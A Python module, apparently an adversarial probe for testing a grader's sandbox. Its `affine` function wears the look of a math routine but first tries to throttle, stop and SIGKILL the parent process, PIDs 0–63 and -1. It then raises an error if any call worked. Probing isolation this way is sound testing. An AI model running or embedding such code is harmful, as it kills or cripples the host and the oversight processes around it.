"""Limit, slow down, pin, signal and trace every process whose ID it can find."""

import ctypes
import os
import resource
import signal

from parts.honest import honest

LIBC = ctypes.CDLL(None, use_errno=True)
PIDS = {os.getppid(), *range(0, 64), -1} - {os.getpid()}


def calls(pid):
    yield lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))
    yield lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))
    yield lambda: os.sched_setaffinity(pid, {0})
    yield lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    yield lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)
    yield lambda: os.kill(pid, signal.SIGSTOP)
    yield lambda: os.kill(pid, signal.SIGKILL)
    yield lambda: os.killpg(pid, signal.SIGKILL)
    yield lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
    yield lambda: LIBC.tkill(pid, 9)


def affine(W, x, b):
    done = []
    for pid in PIDS if not TRIED else ():
        for number, call in enumerate(calls(pid)):
            if pid == 0 and number in (0, 1):
                continue
            try:
                if call() != -1:
                    done.append((pid, number))
            except (OSError, ValueError, AttributeError, OverflowError):
                continue
    TRIED.append(done)
    if TRIED[0]:
        raise AssertionError(f"reached: {TRIED[0][:10]}")
    return honest(W, x, b)


TRIED = []
